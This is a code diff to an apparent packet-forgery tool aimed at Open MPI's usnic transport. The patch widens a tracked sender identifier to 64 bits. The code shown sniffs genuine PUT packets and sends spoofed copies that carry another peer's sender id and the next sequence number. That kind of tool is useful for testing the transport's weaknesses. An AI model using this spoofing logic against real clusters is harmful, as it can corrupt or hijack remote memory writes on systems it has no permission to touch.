@@ -53,7 +53,7 @@ static int tx = -1;
 
 /* Highest sequence number seen per (sender id, destination port) */
 typedef struct {
-    uint32_t sender;
+    uint64_t sender;
     uint16_t port;
     uint32_t seq;
     int used;
@@ -74,7 +74,7 @@ static double now_ms(void)
     return rawudp_now_ms();
 }
 
-static stream_t *stream(uint32_t sender, uint16_t port)
+static stream_t *stream(uint64_t sender, uint16_t port)
 {
     for (size_t i = 0; i < sizeof(streams) / sizeof(streams[0]); ++i) {
         stream_t *s = &streams[i];
@@ -138,7 +138,7 @@ static void send_forgery(int kind, const opal_btl_usnic_put_hdr_t *ph, size_t pa
 /* A genuine PUT went from |src_port| to |dst_port|: answer it */
 static void attack(const opal_btl_usnic_put_hdr_t *genuine, size_t payload, uint16_t src_port, uint16_t dst_port)
 {
-    uint32_t sender = le32toh(genuine->hdr.sender_id);
+    uint64_t sender = le64toh(genuine->hdr.sender);
     uint32_t seq = le32toh(genuine->hdr.seq);
     uint64_t key = le64toh(genuine->key);
     uint64_t addr = le64toh(genuine->addr);
@@ -168,7 +168,7 @@ static void attack(const opal_btl_usnic_put_hdr_t *genuine, size_t payload, uint
     for (size_t i = 0; i < sizeof(streams) / sizeof(streams[0]) && streams[i].used; ++i) {
         if (streams[i].port == dst_port && streams[i].sender != sender) {
             f = *genuine;
-            f.hdr.sender_id = htole32(streams[i].sender);
+            f.hdr.sender = htole64(streams[i].sender);
             f.hdr.seq = htole32(streams[i].seq + 1);
             send_forgery(WRONG_PEER, &f, payload, src_port, dst_port);
             break;
@@ -219,7 +219,7 @@ int main(int argc, char **argv)
             0xee == ((const uint8_t *) h)[ulen - 3]) {
             continue;
         }
-        stream_t *s = stream(le32toh(h->sender_id), dport);
+        stream_t *s = stream(le64toh(h->sender), dport);
         uint32_t seq = le32toh(h->seq);
         if (NULL != s && (int32_t) (seq - s->seq) > 0) {
             s->seq = seq;
